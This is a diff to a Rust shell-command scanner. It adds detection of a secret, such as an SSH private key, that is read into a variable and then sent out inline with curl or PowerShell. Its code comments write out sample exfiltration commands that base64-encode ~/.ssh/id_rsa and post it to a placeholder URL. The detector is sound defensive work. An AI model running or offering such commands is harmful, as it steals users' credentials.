@@ -1304,6 +1304,32 @@ fn upstream<'s, 'a>(
         .take_while(move |x| x.pipeline == pipeline)
 }
 
+/// The variable an earlier command of the script filled with a secret read: a shell
+/// assignment from a substitution that reads one (`k=$(base64 ~/.ssh/id_rsa)`), or
+/// PowerShell's `$k = ...` whose words name a secret file (`Get-Content`, `ReadAllBytes`).
+fn secret_variable<'s>(s: &'s Script<'_>, index: usize) -> Option<&'s str> {
+    s.commands[..index].iter().rev().find_map(|c| {
+        let from_assignment = c.assignments.iter().find_map(|a| {
+            let (name, value) = a.split_once('=')?;
+            crate::shell::parse(value)
+                .substitutions
+                .iter()
+                .any(|b| super::sinks::body_reads_secret(b.body))
+                .then_some(name)
+        });
+        from_assignment.or_else(|| {
+            let name = c.words.first()?.strip_prefix('$')?;
+            (c.words.get(1).is_some_and(|w| w == "=")
+                && !name.is_empty()
+                && c.words[2..].iter().any(|w| {
+                    w.split(['(', ')', '"', '\''])
+                        .any(|part| paths::secret(&part.replace('\\', "/")).is_some())
+                }))
+            .then_some(name)
+        })
+    })
+}
+
 /// Whether a parsed command (not yet resolved) reads a secret or dumps: for the stdin of a sink.
 fn feeds_secret(c: &crate::shell::Command<'_>) -> Option<String> {
     let mut folded = Vec::new();
@@ -1389,6 +1415,15 @@ fn exfiltration(
                 }
             }
         }
+    }
+    // A variable an earlier command of the line filled with a secret (`k=$(base64 -w0
+    // ~/.ssh/id_rsa); curl -d "k=$k" URL`, PowerShell's `$k = Get-Content $HOME\.ssh\id_rsa`),
+    // sent inline.
+    if secret.is_none()
+        && let Some(var) = secret_variable(s, index)
+        && send.inline.iter().any(|t| super::uses_var(t, var))
+    {
+        secret = Some(format!("${var}, filled with a secret earlier on the line"));
     }
     if secret.is_none() {
         // A sink after a secret read in the same or a recent step, sending a file the read
